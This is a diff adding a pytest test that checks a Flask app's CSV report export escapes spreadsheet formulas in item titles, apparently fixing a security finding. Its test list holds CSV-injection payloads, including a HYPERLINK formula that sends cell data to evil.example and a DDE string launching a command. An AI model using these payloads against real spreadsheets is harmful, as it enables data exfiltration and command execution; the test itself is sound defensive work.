@@ -138,6 +138,41 @@ def test_the_monthly_item_report(
     assert bad.exit_code == 2 and "2026-11" in bad.output
 
 
+FORMULA_TITLES = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Bericht")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_the_item_report_writes_no_formula_a_spreadsheet_would_run(
+    app: Flask, api: Api, alice: Account, clock: Clock, runner
+) -> None:
+    """Issue 36 finding 5: a title that starts like a formula gets a `'` before it (OWASP's
+    CSV injection advice); other titles stay as they are."""
+    records = [api.create(alice, titel=title) for title in [*FORMULA_TITLES, "Bericht = gut"]]
+    for record in records:
+        _downloads(api, record["id"], clock, 1)
+    flush(app)
+    result = runner.invoke(args=["stats", "export", "--month", "2026-11"])
+    assert result.exit_code == 0, result.output
+    titles = {row[0]: row[1] for row in csv.reader(io.StringIO(result.output, newline=""))}
+    for record in records:
+        stored = api.get(f"/api/files/{record['id']}", alice).get_json()["titel"]
+        written = titles[record["id"]]
+        if stored.startswith(("=", "+", "-", "@", "\t", "\r")):
+            assert written == f"'{stored}"
+        else:
+            assert written == stored
+    assert titles[records[-1]["id"]] == "Bericht = gut"
+    assert titles[records[0]["id"]] == "'" + FORMULA_TITLES[0]
+    cells = [cell for row in csv.reader(io.StringIO(result.output, newline="")) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
 def test_periods_at_the_ends_of_the_calendar(api: Api, alice: Account) -> None:
     record = api.create(alice)
     path = f"/api/files/{record['id']}/stats"
